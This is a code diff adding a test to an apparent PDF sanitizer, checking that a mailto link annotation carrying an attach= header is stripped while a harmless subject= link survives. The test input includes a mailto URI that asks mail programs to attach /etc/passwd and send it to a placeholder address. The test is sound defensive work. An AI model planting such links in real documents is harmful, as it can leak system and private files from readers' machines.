@@ -186,3 +186,26 @@ def test_pattern_and_shading_are_kept_without_their_actions(benign: bytes) -> No
         assert "/AA" not in tile.Resources.XObject.X0
         function = resources.Shading.Sh0.Function
         assert function.FunctionType == 2 and "/A" not in function
+
+
+def test_mailto_link_keeps_only_harmless_headers(benign: bytes) -> None:  # noqa: F811
+    """'Mailto: Me Your Secrets' (NDSS 2021): attach= makes some mail programs send a file."""
+    with pikepdf.open(io.BytesIO(benign)) as pdf:
+        page = pdf.pages[0]
+        links = []
+        for uri in ("mailto:soumu@town.example?attach=/etc/passwd", "mailto:soumu@town.example?subject=熊"):
+            action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri))
+            links.append(
+                pdf.make_indirect(
+                    pikepdf.Dictionary(
+                        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action
+                    )
+                )
+            )
+        page.obj["/Annots"] = pikepdf.Array(links)
+        buffer = io.BytesIO()
+        pdf.save(buffer)
+    output, _ = rebuild(buffer.getvalue())
+    with pikepdf.open(io.BytesIO(output)) as pdf:
+        uris = [str(a.A.URI) for a in pdf.pages[0].obj.get("/Annots", []) if "/A" in a]
+    assert uris == ["mailto:soumu@town.example?subject=熊"]
